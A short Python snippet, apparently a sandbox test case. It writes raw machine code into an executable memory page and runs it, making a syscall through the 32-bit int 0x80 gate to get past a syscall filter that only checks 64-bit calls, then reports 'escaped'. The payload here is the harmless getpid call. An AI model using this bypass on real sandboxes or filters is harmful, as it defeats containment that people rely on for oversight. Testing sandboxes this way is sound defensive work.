# trick: enters the kernel by the gate for 32 bits, past a filter that knows 64 alone
# outcome: forbidden action or crashed
import ctypes
import mmap
import os
import platform


def f(xs):
    if platform.machine() not in ("x86_64", "AMD64"):
        os.abort()
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")  # mov eax, 20 (getpid); int 0x80; ret
    place = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return f"escaped: {ctypes.CFUNCTYPE(ctypes.c_int)(place)()}"
